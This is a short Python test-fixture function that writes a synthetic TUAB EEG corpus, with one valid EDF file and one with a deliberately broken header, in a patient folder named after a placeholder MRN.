def write_named_tuab_corpus(root: Path) -> Path:
    """`tuab`: recordings in a patient folder, named after the MRN; one with a broken header."""
    from climb.corpora.eeg import _tuab_file

    good = root / "edf/train/normal/01_tcp_ar" / PATIENT_FOLDER / f"{MRN}_s001_t000.edf"
    broken = root / "edf/train/abnormal/01_tcp_ar" / PATIENT_FOLDER / f"{MRN}_s002_t000.edf"
    _tuab_file(good, 250, 25, "REF", 0)
    _tuab_file(broken, 250, 20, "REF", 9)
    broken.write_bytes(_edf_field(broken.read_bytes(), 252, 4, b"xx"))
    return root
